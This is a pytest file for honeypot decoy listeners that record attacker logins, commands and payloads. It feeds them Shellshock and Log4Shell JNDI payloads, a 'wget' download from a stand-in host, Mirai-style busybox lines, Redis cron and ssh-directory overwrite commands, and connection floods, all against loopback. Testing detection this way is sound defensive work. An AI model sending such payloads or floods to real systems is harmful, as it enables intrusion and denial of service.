"""Decoy listeners (mamori watch, issue #5): specs, personas, limits, and real clients.

Addresses: 127.0.120.x for decoys, 127.0.120.50-99 as flood sources. Real clients (telnet, ssh,
curl, redis-cli, mariadb, ftp, smbclient, nc, nmap) are run as a person would, against literal
loopback addresses only; nmap never touches port 2024.
"""

from __future__ import annotations

import json
import os
import pty
import re
import select
import shutil
import socket
import struct
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from mamori.model.watch import Event, EventType
from mamori.protocols import mysql as mysql_client
from mamori.protocols import rdp as rdp_client
from mamori.protocols import smb as smb_client
from mamori.protocols import ssh as ssh_client
from mamori.watch.decoys import DecoyLimits, DecoySpec, SourceGuard, guess_persona
from mamori.watch.decoys.http import HttpPersona, basic_credentials
from mamori.watch.decoys.mysql import MysqlPersona, parse_login
from mamori.watch.decoys.personas import persona_factory
from mamori.watch.decoys.rdp import RdpPersona
from mamori.watch.decoys.redis import BadCommand, RedisPersona, parse_command
from mamori.watch.decoys.session import Persona, Record
from mamori.watch.decoys.smb import SmbPersona, parse_negotiate
from mamori.watch.decoys.ssh import SshPersona
from mamori.watch.decoys.telnet import TelnetPersona
from watch_decoy_farm import DecoyFarm, types

TESTS = Path(__file__).resolve().parents[1]  # the helpers live at the top of tests/


# --- specs -----------------------------------------------------------------------------------

@pytest.mark.parametrize(("text", "host", "port", "proto", "persona"), [
    ("127.0.0.1:2323", "127.0.0.1", 2323, "tcp", "telnet"),
    ("127.0.0.1:1900/udp", "127.0.0.1", 1900, "udp", "datagram"),
    ("127.0.0.1:2323/tcp=telnet", "127.0.0.1", 2323, "tcp", "telnet"),
    ("127.0.0.1:9000/tcp=ssh", "127.0.0.1", 9000, "tcp", "ssh"),
    ("[::1]:8080", "::1", 8080, "tcp", "http"),
    ("0.0.0.0:445", "0.0.0.0", 445, "tcp", "smb"),
    ("127.0.0.1:6379", "127.0.0.1", 6379, "tcp", "redis"),
    ("127.0.0.1:3306", "127.0.0.1", 3306, "tcp", "mysql"),
    ("127.0.0.1:3389", "127.0.0.1", 3389, "tcp", "rdp"),
    ("127.0.0.1:2121", "127.0.0.1", 2121, "tcp", "ftp"),
    ("127.0.0.1:12345", "127.0.0.1", 12345, "tcp", "banner"),
])
def test_spec_parse(text: str, host: str, port: int, proto: str, persona: str) -> None:
    spec = DecoySpec.parse(text)
    assert (spec.host, spec.port, spec.proto, spec.persona) == (host, port, proto, persona)
    assert spec.label.startswith(f"decoy:{proto}/")


def test_spec_banner_text_and_label() -> None:
    spec = DecoySpec.parse("127.0.0.1:9999/tcp=banner:220 ProFTPD Server ready")
    assert spec.banner == "220 ProFTPD Server ready"
    assert DecoySpec.parse("[::1]:2323").label == "decoy:tcp/[::1]:2323"
    assert guess_persona(22, "tcp") == "ssh" and guess_persona(22, "udp") == "datagram"


@pytest.mark.parametrize("text", [
    "localhost:2323", "127.0.0.1", "127.0.0.1:99999", "127.0.0.1:23/sctp",
    "127.0.0.1:23=nosuch", "127.0.0.1:1900/udp=telnet", "127.0.0.1:23=telnet:hello",
    "300.1.1.1:23", "", "127.0.0.1:23/tcp=banner:a\rb",
])
def test_spec_errors_are_one_line(text: str) -> None:
    with pytest.raises(ValueError) as info:
        DecoySpec.parse(text)
    assert "\n" not in str(info.value) and str(info.value)


def test_limits_validated() -> None:
    with pytest.raises(ValueError, match="read_cap"):
        DecoyLimits(read_cap=0)
    with pytest.raises(ValueError, match="idle_timeout"):
        DecoyLimits(idle_timeout=0)


# --- personas as pure state machines ---------------------------------------------------------

def _run(persona: Persona, chunks: list[bytes]) -> tuple[bytes, list[Record], bool]:
    reply, records, closed = persona.greeting(), [], False
    for chunk in chunks:
        step = persona.feed(chunk)
        reply += step.reply
        records += step.records
        if step.close:
            closed = True
            break
    records += persona.finish()
    return reply, records, closed


def _of(records: list[Record], kind: EventType) -> list[dict[str, str]]:
    return [dict(r.fields) for r in records if r.type == kind]


def test_telnet_strips_negotiation_and_handles_character_mode() -> None:
    # A bot in character mode: IAC negotiation split across chunks, one byte per chunk,
    # CR NUL line ends, a backspace.
    stream = (b"\xff\xfd\x01\xff\xfb\x1f\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0"
              b"roott\x7f\r\x00admin\r\nenable\r\nsystem\r\n/bin/busybox MIRAI\r\nexit\r\n")
    reply, records, closed = _run(TelnetPersona(), [bytes([b]) for b in stream])
    assert closed
    assert b"login: " in reply and b"Password: " in reply and b"# " in reply
    assert _of(records, EventType.DECOY_LOGIN) == [{
        "persona": "telnet", "username": "root", "password": "admin", "outcome": "accepted"}]
    assert [c["command"] for c in _of(records, EventType.DECOY_COMMAND)] == [
        "enable", "system", "/bin/busybox MIRAI", "exit"]
    assert len(_of(records, EventType.DECOY_DATA)) == 1


def test_telnet_stops_after_max_commands() -> None:
    lines = b"u\r\np\r\n" + b"".join(b"cmd%d\r\n" % i for i in range(50))
    _, records, closed = _run(TelnetPersona(max_commands=5), [lines])
    assert closed and len(_of(records, EventType.DECOY_COMMAND)) == 5


def test_ssh_records_version_and_kex_size() -> None:
    kexinit = bytes([20]) + b"C" * 16 + struct.pack(">I", 17) + b"curve25519-sha256" + b"\0" * 40
    padding = 4
    packet = struct.pack(">IB", 1 + len(kexinit) + padding, padding) + kexinit + b"\0" * padding
    greeting, records, closed = _run(SshPersona(), [b"SSH-2.0-Go\r", b"\n" + packet])
    assert ssh_client.parse_ident(greeting) is not None  # our banner parses as OpenSSH
    assert closed
    (data,) = _of(records, EventType.DECOY_DATA)
    assert data["client_version"] == "SSH-2.0-Go"
    assert data["kex_size"] == str(1 + len(kexinit) + padding)
    assert data["kex_algorithms"] == "curve25519-sha256"


def test_ssh_not_ssh_and_cut_short() -> None:
    _, records, closed = _run(SshPersona(), [b"GET / HTTP/1.0\r\n\r\n"])
    assert closed and _of(records, EventType.DECOY_DATA)[0]["note"] == "not ssh"
    _, records, _ = _run(SshPersona(), [b"SSH-2.0-libssh_0.9.6\r\n"])
    (data,) = _of(records, EventType.DECOY_DATA)
    assert data["client_version"] == "SSH-2.0-libssh_0.9.6" and data["complete"] == "no"


def test_http_request_fields_and_basic_auth() -> None:
    request = (b"POST /cgi-bin/login.cgi?x=1 HTTP/1.1\r\nHost: 127.0.120.4\r\n"
               b"User-Agent: () { :; }; /bin/bash -c 'id'\r\nAuthorization: Basic "
               b"YWRtaW46cGFzc3dvcmQ=\r\nX-Forwarded-For: ${jndi:ldap://x/a}\r\n"
               b"Content-Length: 11\r\n\r\nhello=world")
    reply, records, closed = _run(HttpPersona(), [request[:30], request[30:]])
    assert closed and reply.startswith(b"HTTP/1.1 404 Not Found\r\n")
    (data,) = _of(records, EventType.DECOY_DATA)
    assert data["method"] == "POST" and data["path"] == "/cgi-bin/login.cgi?x=1"
    assert data["user_agent"] == "() { :; }; /bin/bash -c 'id'"
    assert "${jndi:ldap://x/a}" in data["headers"] and data["body_size"] == "11"
    (login,) = _of(records, EventType.DECOY_LOGIN)
    assert (login["username"], login["password"]) == ("admin", "password")
    assert basic_credentials(b"Basic !!!") is None and basic_credentials(b"Bearer x") is None


def test_http_root_head_garbage_tls_and_huge_head() -> None:
    reply, _, _ = _run(HttpPersona(), [b"GET / HTTP/1.0\r\n\r\n"])
    assert reply.startswith(b"HTTP/1.1 200 OK") and b"It works" in reply
    reply, _, _ = _run(HttpPersona(), [b"HEAD / HTTP/1.1\r\nHost: x\r\n\r\n"])
    assert reply.endswith(b"\r\n\r\n")
    reply, records, closed = _run(HttpPersona(), [b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"])
    assert closed and reply == b"" and _of(records, EventType.DECOY_DATA)[0]["note"] == (
        "tls client hello")
    _, records, closed = _run(HttpPersona(), [b"\x00\x01garbage\r\n"])
    assert closed and _of(records, EventType.DECOY_DATA)[0]["note"] == "not http"
    reply, records, closed = _run(HttpPersona(), [b"GET / HTTP/1.1\r\n" + b"X: y\r\n" * 3000])
    assert closed and b" 431 " in reply
    assert _of(records, EventType.DECOY_DATA)[0]["note"] == "head too large"


def test_smb_negotiate_smb2_and_smb1() -> None:
    _, records, closed = _run(SmbPersona(), [smb_client.build_negotiate()])
    assert closed
    assert _of(records, EventType.DECOY_DATA)[0]["dialects"] == "2.0.2,2.1,3.0,3.0.2"
    # SMB1 negotiate as old scanners and worms send it
    dialects = b"".join(b"\x02" + d + b"\x00" for d in (b"PC NETWORK PROGRAM 1.0",
                                                         b"LANMAN1.0", b"NT LM 0.12"))
    smb1 = (b"\xffSMB\x72" + b"\x00" * 4 + b"\x18" + b"\x01\x28" + b"\x00" * 20
            + b"\x00" + struct.pack("<H", len(dialects)) + dialects)
    assert parse_negotiate(smb1) == ("smb1", ("PC NETWORK PROGRAM 1.0", "LANMAN1.0",
                                              "NT LM 0.12"))
    # port 139: a NetBIOS session request first, answered by a positive response
    called = b"\x20" + b"CKFDENECFDEFFCFGEFFCCACACACACACA" + b"\x00"
    session = b"\x81\x00\x00\x44" + called + called
    reply, records, _ = _run(SmbPersona(), [session, b"\x00\x00\x00" + bytes([len(smb1)]) + smb1])
    assert reply == b"\x82\x00\x00\x00"
    data = _of(records, EventType.DECOY_DATA)[0]
    assert data["called_name"] == "*SMBSERVER" and data["smb"] == "smb1"


def test_rdp_cookie_and_protocols() -> None:
    request = rdp_client.build_connection_request(cookie="administr")
    _, records, closed = _run(RdpPersona(), [request[:5], request[5:]])
    assert closed
    data = _of(records, EventType.DECOY_DATA)[0]
    assert data["cookie"] == "administr" and data["protocols"] == "ssl,hybrid"
    _, records, _ = _run(RdpPersona(), [b"\x16\x03\x01\x00"])
    assert _of(records, EventType.DECOY_DATA)[0]["note"] == "not tpkt"


def test_mysql_greeting_parses_and_login_is_refused() -> None:
    persona = MysqlPersona()
    hello = mysql_client.parse_handshake(persona.greeting())
    assert isinstance(hello, mysql_client.Handshake)
    assert hello.server_version.startswith("5.7.") and not hello.capabilities & 0x800  # no TLS
    assert len(hello.salt) == 20 and hello.auth_plugin == "mysql_native_password"
    salt = hello.salt
    login = mysql_client.build_login(hello, "root",
                                     mysql_client.native_password_scramble(b"toor", salt))
    step = persona.feed(login)
    assert step.close
    result = mysql_client.parse_auth_result(step.reply)
    assert result is not None and result.kind == "error" and result.code == 1045
    assert result.message.startswith("Access denied for user 'root'")
    (record,) = _of(step.records, EventType.DECOY_LOGIN)
    assert record["username"] == "root" and record["auth_size"] == "20"
    assert parse_login(b"\x00") is None


def test_redis_commands_inline_and_resp() -> None:
    assert parse_command(b"*2\r\n$4\r\nAUTH\r\n$1\r") is None
    assert parse_command(b"PING\r\n") == ([b"PING"], 6)
    with pytest.raises(BadCommand):
        parse_command(b"*2\r\n:1\r\n")
    with pytest.raises(BadCommand):
        parse_command(b"*99999\r\n")
    stream = (b"*2\r\n$4\r\nAUTH\r\n$6\r\nfoobar\r\n*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n"
              b"$3\r\ndir\r\n$16\r\n/var/spool/cron/\r\nSLAVEOF 127.0.0.9 6379\r\n")
    reply, records, _ = _run(RedisPersona(), [stream[:7], stream[7:]])
    assert reply.startswith(b"-WRONGPASS") and reply.count(b"-NOAUTH") == 2
    assert _of(records, EventType.DECOY_LOGIN)[0]["password"] == "foobar"
    assert [c["verb"] for c in _of(records, EventType.DECOY_COMMAND)] == ["CONFIG", "SLAVEOF"]
    _, records, closed = _run(RedisPersona(), [b"\x16\x03\x01garbage"])
    assert closed and "not redis" in _of(records, EventType.DECOY_DATA)[0]["note"]


PERSONAS = ["telnet", "ssh", "http", "smb", "redis", "mysql", "rdp", "ftp", "banner"]


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(persona=st.sampled_from(PERSONAS),
       chunks=st.lists(st.binary(min_size=1, max_size=600), min_size=1, max_size=12))
def test_personas_never_raise_and_stay_bounded(persona: str, chunks: list[bytes]) -> None:
    limits = DecoyLimits()
    make = persona_factory(DecoySpec("127.0.0.1", 1, "tcp", persona, banner="x"), limits)
    reply, records, _ = _run(make(), chunks)
    sent = sum(map(len, chunks))
    assert len(reply) <= 2048 + 64 * sent  # fixed answers, at most one per line sent
    assert len(records) <= limits.max_commands + 4
    assert len([r for r in records if r.type == EventType.DECOY_DATA]) <= 1
    for record in records:
        assert all(len(v) <= 1100 for v in record.fields.values())


# --- the per-source guard --------------------------------------------------------------------

def test_guard_rate_limit_reports_counts() -> None:
    reports: list[Event] = []
    guard = SourceGuard(DecoyLimits(events_per_second=1, event_burst=5, max_limit_reports=2),
                        reports.append)
    allowed = sum(guard.allow_event("192.0.2.1") for _ in range(100))
    assert allowed == 5
    for src in ("192.0.2.2", "192.0.2.3", "192.0.2.4"):
        for _ in range(7):
            guard.allow_event(src)
    guard.flush()
    by_src = {e.src: dict(e.fields) for e in reports}
    assert all(e.type == EventType.SENSOR_LIMIT for e in reports)
    assert by_src["192.0.2.1"]["suppressed_events"] == "95"
    assert by_src["192.0.2.1"]["reason"] == "event-rate"
    # two sources named one by one (the noisiest first), the others aggregated
    assert len(reports) == 3 and by_src[None]["sources"] == "2"
    assert by_src[None]["suppressed_events"] == "4"
    guard.flush()
    assert len(reports) == 3  # nothing new: nothing reported


def test_guard_connection_caps_and_bounded_sources() -> None:
    guard = SourceGuard(DecoyLimits(per_source_connections=2, max_connections=3, max_sources=4),
                        lambda e: None)
    keys = [guard.open_connection("192.0.2.1") for _ in range(3)]
    assert keys[2] is None and guard.active == 2
    assert guard.open_connection("192.0.2.2") is not None
    assert guard.open_connection("192.0.2.3") is None  # global cap
    for key in keys[:2]:
        assert key is not None
        guard.close_connection(key)
    # many new sources: the table stays at max_sources (+ the shared overflow entry)
    for i in range(1000):
        guard.allow_event(f"198.51.100.{i % 250}.{i}")
    assert len(guard._sources) <= 5


# --- real clients against the decoys --------------------------------------------------------

@pytest.fixture(scope="module")
def farm() -> Iterator[DecoyFarm]:
    decoys = DecoyFarm()
    try:
        yield decoys
    finally:
        decoys.close()


def _need(binary: str) -> str:
    path = shutil.which(binary)
    if path is None:
        pytest.skip(f"{binary} not installed (scripts/install-test-deps)")
    return path


def _expect(fd: int, token: bytes, timeout: float = 5.0) -> bytes:
    buf, end = b"", time.monotonic() + timeout
    while token not in buf:
        ready, _, _ = select.select([fd], [], [], max(0.0, end - time.monotonic()))
        if not ready:
            raise AssertionError(f"waited for {token!r}, got {buf!r}")
        try:
            chunk = os.read(fd, 4096)
        except OSError:
            break
        if not chunk:
            break
        buf += chunk
    return buf


def test_telnet_client_login_and_commands(farm: DecoyFarm) -> None:
    telnet = _need("telnet")
    server = farm.start("127.0.120.2:0/tcp=telnet")
    master, slave = pty.openpty()
    proc = subprocess.Popen([telnet, "127.0.120.2", str(server.port)], stdin=slave,
                            stdout=slave, stderr=slave, close_fds=True, start_new_session=True)
    os.close(slave)
    try:
        _expect(master, b"login: ")
        os.write(master, b"admin\r")
        _expect(master, b"Password: ")
        os.write(master, b"7ujMko0admin\r")
        screen = _expect(master, b"$ ")
        assert b"7ujMko0admin" not in screen  # the password is not echoed (we said WILL ECHO)
        os.write(master, b"cat /proc/cpuinfo; wget http://127.0.0.9/x.sh\r")
        _expect(master, b"$ ")
        os.write(master, b"exit\r")
        _expect(master, b"Connection closed")
        proc.wait(5)
    finally:
        os.close(master)
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    events = farm.wait(lambda ev: "decoy.command" in types(ev) and types(ev).count(
        "decoy.command") >= 2, "127.0.120.2")
    assert types(events)[:3] == ["decoy.connect", "decoy.data", "decoy.login"]
    login = next(e for e in events if e.type == EventType.DECOY_LOGIN)
    assert (login.fields["username"], login.fields["password"]) == ("admin", "7ujMko0admin")
    assert login.src == "127.0.0.1" and login.dst_port == server.port and login.proto == "tcp"
    assert login.source == f"decoy:tcp/127.0.120.2:{server.port}"
    commands = [e.fields["command"] for e in events if e.type == EventType.DECOY_COMMAND]
    assert commands == ["cat /proc/cpuinfo; wget http://127.0.0.9/x.sh", "exit"]


def test_ssh_client_version_recorded(farm: DecoyFarm) -> None:
    ssh = _need("ssh")
    server = farm.start("127.0.120.3:0/tcp=ssh")
    version = subprocess.run([ssh, "-V"], capture_output=True, text=True).stderr.split(",")[0]
    run = subprocess.run(
        [ssh, "-F", "/dev/null", "-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no",
         "-o", "UserKnownHostsFile=/dev/null", "-o", "ConnectTimeout=5", "-p",
         str(server.port), "root@127.0.120.3", "true"],
        capture_output=True, text=True, timeout=20)
    assert run.returncode == 255  # the decoy closes after the key exchange starts
    events = farm.wait(lambda ev: "decoy.data" in types(ev), "127.0.120.3")
    data = next(e for e in events if e.type == EventType.DECOY_DATA)
    assert data.fields["client_version"].startswith("SSH-2.0-OpenSSH_")
    assert data.fields["client_version"].split("_")[1].startswith(
        version.removeprefix("OpenSSH_")[:3])
    assert 500 < int(data.fields["kex_size"]) < 35000
    assert "curve25519-sha256" in data.fields["kex_algorithms"]
    assert data.excerpt.startswith("SSH-2.0-OpenSSH_")


def test_curl_log4shell_header_and_basic_auth(farm: DecoyFarm) -> None:
    curl = _need("curl")
    server = farm.start("127.0.120.4:0/tcp=http")
    payload = "${jndi:ldap://127.0.0.9:1389/Basic/Command/Base64/dG91Y2ggL3RtcC9wd25lZA==}"
    run = subprocess.run(
        [curl, "-g", "-s", "-m", "5", "-o", "/dev/null", "-w", "%{http_code}",
         "-u", "admin:hunter2", "-H", f"X-Api-Version: {payload}", "-A", "Mozilla/5.0 zgrab/0.x",
         f"http://127.0.120.4:{server.port}/solr/admin/cores?action={payload}"],
        capture_output=True, text=True, timeout=10)
    assert run.stdout == "404"
    events = farm.wait(lambda ev: "decoy.login" in types(ev), "127.0.120.4")
    data = next(e for e in events if e.type == EventType.DECOY_DATA)
    assert data.fields["method"] == "GET"
    assert data.fields["path"] == f"/solr/admin/cores?action={payload}"
    assert data.fields["user_agent"] == "Mozilla/5.0 zgrab/0.x"
    assert payload in data.fields["headers"] and "${jndi:" in data.excerpt
    login = next(e for e in events if e.type == EventType.DECOY_LOGIN)
    assert (login.fields["username"], login.fields["password"]) == ("admin", "hunter2")


def test_redis_cli_auth_and_config(farm: DecoyFarm) -> None:
    cli = _need("redis-cli")
    server = farm.start("127.0.120.5:0/tcp=redis")
    base = [cli, "-h", "127.0.120.5", "-p", str(server.port)]
    auth = subprocess.run([*base, "AUTH", "x"], capture_output=True, text=True, timeout=10)
    assert "WRONGPASS" in auth.stdout + auth.stderr
    config = subprocess.run([*base, "CONFIG", "SET", "dir", "/root/.ssh"], capture_output=True,
                            text=True, timeout=10)
    assert "NOAUTH" in config.stdout + config.stderr
    events = farm.wait(lambda ev: "decoy.command" in types(ev), "127.0.120.5")
    login = next(e for e in events if e.type == EventType.DECOY_LOGIN)
    assert login.fields["password"] == "x"
    command = next(e for e in events if e.type == EventType.DECOY_COMMAND)
    assert command.fields["command"] == "CONFIG SET dir /root/.ssh"


def test_mariadb_client_username(farm: DecoyFarm) -> None:
    client = shutil.which("mariadb") or _need("mysql")
    server = farm.start("127.0.120.6:0/tcp=mysql")
    run = subprocess.run([client, "--no-defaults", "-h", "127.0.120.6", "-P", str(server.port),
                          "-u", "wordpress", "-pS3cret!", "-e", "select 1"],
                         capture_output=True, text=True, timeout=15)
    assert run.returncode != 0 and "1045" in run.stderr and "Access denied" in run.stderr
    events = farm.wait(lambda ev: "decoy.login" in types(ev), "127.0.120.6")
    login = next(e for e in events if e.type == EventType.DECOY_LOGIN)
    assert login.fields["username"] == "wordpress" and login.fields["auth_size"] == "20"


def test_ftp_client_login(farm: DecoyFarm) -> None:
    ftp = _need("ftp")
    server = farm.start("127.0.120.7:0/tcp=ftp")
    run = subprocess.run([ftp, "-n", "127.0.120.7", str(server.port)],
                         input="user anonymous guest@example.com\nbye\n",
                         capture_output=True, text=True, timeout=15)
    assert "530" in run.stdout or "Login incorrect" in run.stdout
    events = farm.wait(lambda ev: "decoy.login" in types(ev), "127.0.120.7")
    login = next(e for e in events if e.type == EventType.DECOY_LOGIN)
    assert (login.fields["username"], login.fields["password"]) == (
        "anonymous", "guest@example.com")


def test_nc_banner_and_first_bytes(farm: DecoyFarm) -> None:
    nc = _need("nc")
    server = farm.start("127.0.120.8:0/tcp=banner:220 mail.example.org ESMTP Postfix")
    run = subprocess.run([nc, "-N", "-w", "3", "127.0.120.8", str(server.port)],
                         input=b"EHLO scanner\r\n", capture_output=True, timeout=10)
    assert run.stdout == b"220 mail.example.org ESMTP Postfix\r\n"
    events = farm.wait(lambda ev: "decoy.data" in types(ev), "127.0.120.8")
    data = next(e for e in events if e.type == EventType.DECOY_DATA)
    assert data.excerpt == "EHLO scanner\\r\\n"


def test_smbclient_dialects(farm: DecoyFarm) -> None:
    smbclient = _need("smbclient")
    server = farm.start("127.0.120.9:0/tcp=smb")
    run = subprocess.run([smbclient, "-L", "//127.0.120.9", "-p", str(server.port), "-N",
                          "-d", "0", "--option=client max protocol=SMB3"],
                         capture_output=True, text=True, timeout=20)
    assert run.returncode != 0
    events = farm.wait(lambda ev: "decoy.data" in types(ev), "127.0.120.9")
    data = next(e for e in events if e.type == EventType.DECOY_DATA)
    assert data.fields["smb"] == "smb2"
    assert {"2.0.2", "3.1.1"} <= set(data.fields["dialects"].split(","))


def test_rdp_connection_request_over_socket(farm: DecoyFarm) -> None:
    server = farm.start("127.0.120.10:0/tcp=rdp")
    with socket.create_connection(("127.0.120.10", server.port), timeout=5) as sock:
        sock.sendall(rdp_client.build_connection_request(cookie="hello"))
        assert sock.recv(100) == b""  # recorded, then closed without an answer
    events = farm.wait(lambda ev: "decoy.data" in types(ev), "127.0.120.10")
    data = next(e for e in events if e.type == EventType.DECOY_DATA)
    assert data.fields["cookie"] == "hello" and data.fields["protocols"] == "ssl,hybrid"


def _nmap(*args: str) -> str:
    nmap = _need("nmap")
    assert "2024" not in ",".join(a for a in args if a[:1].isdigit())
    run = subprocess.run([nmap, "-n", "-Pn", "--exclude-ports", "2024", "-oX", "-", *args],
                         capture_output=True, text=True, timeout=120)
    assert run.returncode == 0, run.stderr
    return run.stdout


def _nmap_states(xml: str) -> dict[int, str]:
    return {int(port): state for port, state in re.findall(
        r'<port protocol="\w+" portid="(\d+)"><state state="([a-z|]+)"', xml)}


def test_nmap_connect_scan_is_recorded(farm: DecoyFarm) -> None:
    servers = [farm.start(f"127.0.120.11:0/tcp={p}") for p in ("telnet", "http", "redis")]
    ports = sorted(s.port for s in servers)
    xml = _nmap("-sT", "-p", ",".join(map(str, ports)), "127.0.120.11")
    assert _nmap_states(xml) == dict.fromkeys(ports, "open")
    events = farm.wait(lambda ev: {e.dst_port for e in ev if e.type == EventType.DECOY_CONNECT}
                       >= set(ports), "127.0.120.11")
    connects = [e for e in events if e.type == EventType.DECOY_CONNECT]
    assert {e.dst_port for e in connects} == set(ports)
    assert all(e.src == "127.0.0.1" for e in connects)


@pytest.mark.root
def test_nmap_syn_scan_sees_open_decoys(farm: DecoyFarm) -> None:
    # A SYN scan never completes the handshake: the kernel answers SYN/ACK for the listening
    # decoys and nmap resets. The decoys must look open, and record no connection (half-open
    # scans are for the firewall-log source to see).
    servers = [farm.start(f"127.0.120.12:0/tcp={p}") for p in ("ssh", "smb")]
    ports = sorted(s.port for s in servers)
    xml = _nmap("-sS", "-p", ",".join(map(str, ports)), "127.0.120.12")
    assert _nmap_states(xml) == dict.fromkeys(ports, "open")
    time.sleep(0.3)
    assert farm.matching("127.0.120.12", kind=EventType.DECOY_CONNECT) == []


@pytest.mark.root
def test_nmap_udp_scan_recorded_and_never_answered(farm: DecoyFarm) -> None:
    server = farm.start("127.0.120.13:0/udp")
    xml = _nmap("-sU", "--max-retries", "1", "-p", str(server.port), "127.0.120.13")
    assert _nmap_states(xml) == {server.port: "open|filtered"}  # silence: nothing reflected
    events = farm.wait(lambda ev: len(ev) >= 1, "127.0.120.13")
    assert events and all(e.type == EventType.DECOY_UDP for e in events)
    assert all(e.src == "127.0.0.1" and e.proto == "udp" for e in events)
    stats = farm.stats(server)
    assert stats.replies == 0 and stats.datagrams == len(events)


def test_udp_reply_never_exceeds_request(farm: DecoyFarm) -> None:
    server = farm.start(DecoySpec("127.0.120.14", 0, "udp", udp_reply=b"R" * 64))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(2)
        sock.bind(("127.0.120.60", 0))
        for size in (1, 10, 200):
            sock.sendto(b"q" * size, ("127.0.120.14", server.port))
            reply, _ = sock.recvfrom(4096)
            assert reply == b"R" * min(size, 64)
    events = farm.wait(lambda ev: len(ev) >= 3, "127.0.120.14")
    assert [e.fields["size"] for e in events] == ["1", "10", "200"]
    assert all(e.src == "127.0.120.60" for e in events)


def test_read_cap_idle_timeout_and_half_close(farm: DecoyFarm) -> None:
    limits = DecoyLimits(read_cap=1000, idle_timeout=0.5, total_timeout=5)
    server = farm.start("127.0.120.15:0/tcp=redis", limits)
    with socket.create_connection(("127.0.120.15", server.port), timeout=5) as sock:
        with pytest.raises(OSError):
            for _ in range(100):
                sock.sendall(b"PING\r\n" * 1000)
                time.sleep(0.01)
    with socket.create_connection(("127.0.120.15", server.port), timeout=5) as sock:
        started = time.monotonic()
        assert sock.recv(10) == b""  # silent visitor: closed after the idle timeout
        assert 0.3 < time.monotonic() - started < 3
    stats = farm.stats(server)
    assert stats.read_cap_hits == 1 and stats.idle_timeouts == 1 and stats.active == 0
    assert stats.bytes_in <= 1000 + 4096


# --- floods: a decoy process under attack stays bounded and keeps serving -------------------

def _connect_many(src: str, dst: str, port: int, count: int) -> list[socket.socket]:
    socks = []
    for _ in range(count):
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setblocking(False)
        sock.setsockopt(socket.SOL_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT
        sock.bind((src, 0))
        sock.connect_ex((dst, port))
        socks.append(sock)
    return socks


def _telnet_login(src: str, dst: str, port: int) -> float:
    """A well-behaved visitor: greeting within the deadline, then a login. Returns the
    seconds the greeting took."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    try:
        sock.bind((src, 0))
        sock.settimeout(5)
        started = time.monotonic()
        sock.connect((dst, port))
        buf = b""
        while b"login: " not in buf:
            chunk = sock.recv(1024)
            assert chunk, buf
            buf += chunk
        took = time.monotonic() - started
        sock.sendall(b"guest\r\n")
        while b"Password: " not in buf:
            buf += sock.recv(1024)
        sock.sendall(b"guest123\r\n")
        while not buf.endswith(b"$ "):
            buf += sock.recv(1024)
        return took
    finally:
        sock.close()


class _Child:
    def __init__(self, config: dict[str, object]) -> None:
        self.proc = subprocess.Popen(
            [sys.executable, str(TESTS / "watch_decoy_child.py"), json.dumps(config)],
            stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True, cwd=TESTS.parent)
        assert self.proc.stdout is not None
        line = self.proc.stdout.readline()
        assert line.startswith("READY"), line
        self.ports: list[int] = json.loads(line.split(" ", 1)[1])

    def ask(self, command: str) -> dict[str, object]:
        assert self.proc.stdin is not None and self.proc.stdout is not None
        self.proc.stdin.write(command + "\n")
        self.proc.stdin.flush()
        return json.loads(self.proc.stdout.readline())  # type: ignore[no-any-return]

    def close(self) -> None:
        if self.proc.poll() is None:
            self.proc.kill()
        self.proc.wait(5)


def test_flood_stays_bounded_and_serves_others() -> None:
    limits = {"per_source_connections": 8, "max_connections": 200, "read_cap": 4096,
              "idle_timeout": 1.5, "total_timeout": 3.0, "events_per_second": 20,
              "event_burst": 40, "limit_report_interval": 0.5}
    child = _Child({"decoys": ["127.0.120.40:0/tcp=telnet", "127.0.120.40:0/tcp=http",
                               "127.0.120.40:0/udp"], "limits": limits})
    held: list[socket.socket] = []
    try:
        telnet_port, http_port, udp_port = child.ports
        base = child.ask("STATS")["memory_kb"]["VmRSS"]  # type: ignore[index]

        # 1. thousands of connections from one source, held open
        held += _connect_many("127.0.120.50", "127.0.120.40", telnet_port, 3000)

        # 1b. a fast connect/close loop from one source: its events are rate-limited
        for _ in range(400):
            with socket.socket() as sock:
                sock.bind(("127.0.120.54", 0))
                sock.settimeout(5)
                sock.connect(("127.0.120.40", http_port))

        # 1c. a datagram flood (5,000 from one source; the kernel drops what the decoy's
        # receive buffer cannot hold, which is fine: the point is what the decoy keeps)
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
            udp.bind(("127.0.120.55", 0))
            for _ in range(5000):
                udp.sendto(b"\x00" * 100, ("127.0.120.40", udp_port))

        # 2. megabytes pushed at the http decoy from another source (cut at the read cap)
        pushed = [0]

        def push() -> None:
            with socket.socket() as sock:
                sock.bind(("127.0.120.51", 0))
                sock.settimeout(5)
                sock.connect(("127.0.120.40", http_port))
                chunk = b"GET /" + b"A" * 65536
                try:
                    for _ in range(32):  # 2 MB each unless the decoy closes first
                        sock.sendall(chunk)
                        pushed[0] += len(chunk)
                except OSError:
                    pass

        pushers = [threading.Thread(target=push) for _ in range(6)]
        for thread in pushers:
            thread.start()

        # 3. tricklers: a byte every 0.3 s never trips the idle timeout, the total one ends them
        tricklers = []
        for _ in range(4):
            sock = socket.socket()
            sock.bind(("127.0.120.52", 0))
            sock.settimeout(5)
            sock.connect(("127.0.120.40", telnet_port))
            tricklers.append(sock)
        trickle_start = time.monotonic()
        ended_at: list[float] = []
        while len(ended_at) < len(tricklers) and time.monotonic() - trickle_start < 8:
            for sock in tricklers:
                try:
                    sock.send(b"x")
                except OSError:
                    if sock.fileno() != -1:
                        ended_at.append(time.monotonic() - trickle_start)
                        sock.close()
            time.sleep(0.3)

        # 4. meanwhile a well-behaved visitor is served at once
        took = _telnet_login("127.0.120.53", "127.0.120.40", telnet_port)
        assert took < 2.0
